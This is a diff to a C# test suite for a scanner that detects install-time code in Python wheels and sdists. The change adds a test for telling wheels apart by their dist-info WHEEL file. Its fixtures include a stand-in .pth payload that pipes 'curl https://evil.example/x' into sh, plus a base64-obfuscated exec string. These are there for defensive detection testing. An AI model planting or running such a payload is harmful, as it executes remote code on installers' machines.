@@ -13,8 +13,26 @@ public class InstallTimeCodeTests
     private const string PthPayload = "import os; os.system('curl https://evil.example/x | sh')";
     private const string ObfuscatedExec = "import base64\nexec(base64.b64decode('cHJpbnQoInB3bmVkIik='))\n";
 
-    private static Task<IReadOnlyList<Finding>> InspectAsync(Stream archive, string fileName) =>
-        InstallTimeCode.InspectAsync(archive, fileName, CancellationToken.None);
+    /// <summary>The check on the content alone: <paramref name="fileName"/> only labels the case, since wheels are told by content.</summary>
+    private static async Task<IReadOnlyList<Finding>> InspectAsync(Stream archive, string fileName)
+    {
+        _ = fileName;
+        return (await InstallTimeCode.InspectAsync(archive, CancellationToken.None)).Findings;
+    }
+
+    [Fact]
+    public async Task A_wheel_is_told_by_its_top_level_dist_info_WHEEL_and_judged_by_wheel_rules_whatever_its_name()
+    {
+        var (isWheel, findings) = await InstallTimeCode.InspectAsync(Wheel(("demo.pth", $"{PthPayload}\n")), CancellationToken.None);
+        Assert.True(isWheel);
+        Assert.Equal(Severity.Dangerous, SingleFinding(findings, Rules.PthExec).Severity);
+
+        // The same members without WHEEL are no wheel: an installer would not install them as one, so sdist rules apply.
+        var notAWheel = Zip([.. CleanWheelMembers.Where(m => !m.Path.EndsWith("/WHEEL", StringComparison.Ordinal)), ("demo.pth", $"{PthPayload}\n")]);
+        var (plain, plainFindings) = await InstallTimeCode.InspectAsync(notAWheel, CancellationToken.None);
+        Assert.False(plain);
+        Assert.Equal(Severity.Suspicious, SingleFinding(plainFindings, Rules.PthExec).Severity);
+    }
 
     private static Finding SingleFinding(IReadOnlyList<Finding> findings, string rule) => Assert.Single(findings, f => f.Rule == rule);
 
@@ -180,6 +198,7 @@ public class InstallTimeCodeTests
         var wheel = Zip(
             ("_demo_ext.cpython-312-x86_64-linux-gnu.so", "\u007fELF"),
             ("demo-1.0.dist-info/METADATA", "Name: demo\n"),
+            ("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: cp312-cp312-linux_x86_64\n"),
             ("demo-1.0.dist-info/top_level.txt", "_demo_ext\n"));
         Assert.Empty(await InspectAsync(wheel, WheelName));
     }
